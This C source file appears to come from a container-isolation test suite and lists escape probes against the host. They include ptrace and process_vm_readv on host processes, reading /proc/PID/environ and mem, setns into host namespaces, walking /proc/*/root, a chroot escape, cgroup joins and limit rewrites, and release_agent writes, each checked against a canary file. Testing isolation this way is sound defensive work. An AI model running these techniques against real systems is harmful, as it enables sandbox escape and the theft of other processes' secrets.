/* Processes of the host and of other agents: seen, stopped, read, entered. */
#include "attack/attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <glob.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

static int with_victim(int (*what)(pid_t pid, const char *name), const char *name)
{
	pid_t pid = victim();

	return pid ? what(pid, name) : -ESRCH;
}

static int signalled(pid_t pid, const char *name)
{
	(void)name;
	return done(kill(pid, 0));
}

static int traced(pid_t pid, const char *name)
{
	(void)name;
	return done(ptrace(PTRACE_SEIZE, pid, NULL, NULL));
}

static int limited(pid_t pid, const char *name)
{
	struct rlimit limit;

	(void)name;
	if (prlimit(pid, RLIMIT_NOFILE, NULL, &limit) < 0)
		return -errno;
	return done(prlimit(pid, RLIMIT_NOFILE, &limit, NULL));
}

static int slowed(pid_t pid, const char *name)
{
	(void)name;
	return done(setpriority(PRIO_PROCESS, (id_t)pid, getpriority(PRIO_PROCESS, (id_t)pid)));
}

static int placed(pid_t pid, const char *name)
{
	cpu_set_t cpus;

	(void)name;
	if (sched_getaffinity(pid, sizeof(cpus), &cpus) < 0)
		return -errno;
	return done(sched_setaffinity(pid, sizeof(cpus), &cpus));
}

static int read_memory(pid_t pid, const char *name)
{
	unsigned long long start;
	char path[64], byte, line[200];
	struct iovec mine = {&byte, 1}, its = {.iov_len = 1};
	FILE *maps;

	(void)name;
	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	if (!maps)
		return -errno;
	if (!fgets(line, sizeof(line), maps) || sscanf(line, "%llx", &start) != 1) {
		fclose(maps);
		return -EACCES;
	}
	fclose(maps);
	its.iov_base = (void *)start;
	return done(process_vm_readv(pid, &mine, 1, &its, 1, 0));
}

static int took_descriptor(pid_t pid, const char *name)
{
	int fd = (int)syscall(SYS_pidfd_open, pid, 0);

	(void)name;
	return fd < 0 ? -errno : done(syscall(SYS_pidfd_getfd, fd, 0, 0));
}

static int opened_of(pid_t pid, const char *name)
{
	char path[128];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	fd = open(path, (strstr(name, "oom") ? O_WRONLY : O_RDONLY) | O_CLOEXEC);
	return done(fd);
}

static int entered(pid_t pid, const char *name)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/ns/%s", pid, name);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	return fd < 0 ? -errno : done(setns(fd, 0));
}

static int entered_all(pid_t pid, const char *name)
{
	int fd = (int)syscall(SYS_pidfd_open, pid, 0);

	(void)name;
	return fd < 0 ? -errno : done(setns(fd, CLONE_NEWNS | CLONE_NEWIPC | CLONE_NEWUTS));
}

#define VICTIM(what)                           \
	static int v_##what(const void *arg)   \
	{                                      \
		return with_victim(what, arg); \
	}
VICTIM(signalled)
VICTIM(traced)
VICTIM(limited)
VICTIM(slowed)
VICTIM(placed)
VICTIM(read_memory)
VICTIM(took_descriptor)
VICTIM(opened_of)
VICTIM(entered)
VICTIM(entered_all)

/* Through the links of any process at all, and from any directory that one has open. */
static int through_links(const void *arg)
{
	glob_t found = {};
	char path[400];
	int r = -ENOENT, fd;

	if (glob(arg, GLOB_NOSORT, NULL, &found) != 0)
		return -ENOENT;
	for (size_t i = 0; i < found.gl_pathc && i < 20000 && r < 0; i++) {
		snprintf(path, sizeof(path), "%s" CANARY_FILE, found.gl_pathv[i]);
		r = is_canary(AT_FDCWD, path);
		fd = r < 0 ? open(found.gl_pathv[i], O_PATH | O_DIRECTORY | O_CLOEXEC) : -1;
		if (fd < 0)
			continue;
		r = is_canary(fd, "../../../../../../../.." CANARY_FILE);
		close(fd);
	}
	globfree(&found);
	return r;
}

/* A descriptor somebody has of the host's file itself. */
static int open_files(const void *arg)
{
	glob_t found = {};
	int r = -ENOENT;

	if (glob(arg, GLOB_NOSORT, NULL, &found) != 0)
		return -ENOENT;
	for (size_t i = 0; i < found.gl_pathc && i < 20000 && r < 0; i++) {
		char target[300] = "";

		if (readlink(found.gl_pathv[i], target, sizeof(target) - 1) > 0 &&
		    strstr(target, CANARY))
			r = is_canary(AT_FDCWD, found.gl_pathv[i]);
	}
	globfree(&found);
	return r;
}

static int found_group;

static int look_at_group(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
	char file[600];

	(void)st;
	if (type != FTW_D || strcmp(path + ftw->base, CANARY ".service") != 0)
		return 0;
	snprintf(file, sizeof(file), "%s/cgroup.procs", path);
	found_group = open(file, O_WRONLY | O_CLOEXEC);
	if (found_group < 0)
		return 0;
	found_group = write(found_group, "0", 1) == 1 ? 0 : -1;
	return found_group == 0;
}

/* Into the control group of somebody else, whose limits are not ours. */
static int joined(const void *arg)
{
	found_group = -1;
	(void)nftw(arg, look_at_group, 16, FTW_PHYS);
	return found_group == 0 ? 0 : -ENOENT;
}

/* A limit of the group that is the container. */
static int own_limit(const void *arg)
{
	glob_t found = {};
	int r = -ENOENT;

	if (glob(arg, GLOB_NOSORT, NULL, &found) != 0)
		return -ENOENT;
	for (size_t i = 0; i < found.gl_pathc && r < 0; i++)
		r = strstr(arg, "devices.")
			    ? done(open(found.gl_pathv[i], O_WRONLY | O_CLOEXEC))
			    : rewrite(found.gl_pathv[i]);
	globfree(&found);
	return r;
}

static int chroot_escape(const void *arg)
{
	int fd;

	(void)arg;
	if (mkdir("/attack-root", 0700) < 0 && errno != EEXIST)
		return -errno;
	fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0 || chroot("/attack-root") < 0 || fchdir(fd) < 0)
		return -errno;
	for (int i = 0; i < 64; i++)
		(void)!chdir("..");
	return is_canary(AT_FDCWD, "." CANARY_FILE);
}

#define OF(name, run, arg)                                           \
	{                                                            \
		"T1", "of the host's process: " name, run, arg, NULL \
	}
#define LIMIT(file)                                                          \
	{                                                                    \
		"T19", "own limit " file, own_limit, "/sys/fs/cgroup/" file, \
			"this version of control groups, or its root"        \
	}

static const struct attack rows[] = {
	OF("a signal", v_signalled, NULL),
	OF("ptrace", v_traced, NULL),
	OF("prlimit", v_limited, NULL),
	OF("setpriority", v_slowed, NULL),
	OF("sched_setaffinity", v_placed, NULL),
	OF("process_vm_readv", v_read_memory, NULL),
	OF("pidfd_getfd", v_took_descriptor, NULL),
	OF("environ", v_opened_of, "environ"),
	OF("mem", v_opened_of, "mem"),
	OF("root", v_opened_of, "root"),
	OF("cwd", v_opened_of, "cwd"),
	OF("oom_score_adj", v_opened_of, "oom_score_adj"),
	OF("stack", v_opened_of, "stack"),
	OF("setns to its files", v_entered, "mnt"),
	OF("setns to its network", v_entered, "net"),
	OF("setns to its host name", v_entered, "uts"),
	OF("setns to its control groups", v_entered, "cgroup"),
	OF("setns by pidfd", v_entered_all, NULL),
	{"T1", "host's files through /proc/*/root", through_links, "/proc/[0-9]*/root", NULL},
	{"T1", "host's files through /proc/*/cwd", through_links, "/proc/[0-9]*/cwd", NULL},
	{"T1", "host's files through /proc/*/fd", through_links, "/proc/[0-9]*/fd/*", NULL},
	{"T1", "host's files through /proc/*/task", through_links, "/proc/[0-9]*/task/*/root",
	 NULL},
	{"T1", "host's open file through /proc/*/fd", open_files, "/proc/[0-9]*/fd/*", NULL},
	{"T1", "out of a chroot in the root", chroot_escape, NULL, NULL},
	{"T19", "into another's control group", joined, "/sys/fs/cgroup", NULL},
	LIMIT("memory.max"),
	LIMIT("pids.max"),
	LIMIT("cpu.max"),
	LIMIT("memory/memory.limit_in_bytes"),
	LIMIT("pids/pids.max"),
	LIMIT("cpu/cpu.shares"),
	LIMIT("cpuset/cpuset.cpus"),
	{"T1", "own limit devices/devices.allow", own_limit,
	 "/sys/fs/cgroup/devices/devices.allow", "the old hierarchies"},
	{"T1", "release_agent of the root group", own_limit, "/sys/fs/cgroup/*/release_agent",
	 "the old hierarchies, or their root"},
};

const struct attack_list attacks_on_processes = {rows, sizeof(rows) / sizeof(*rows)};
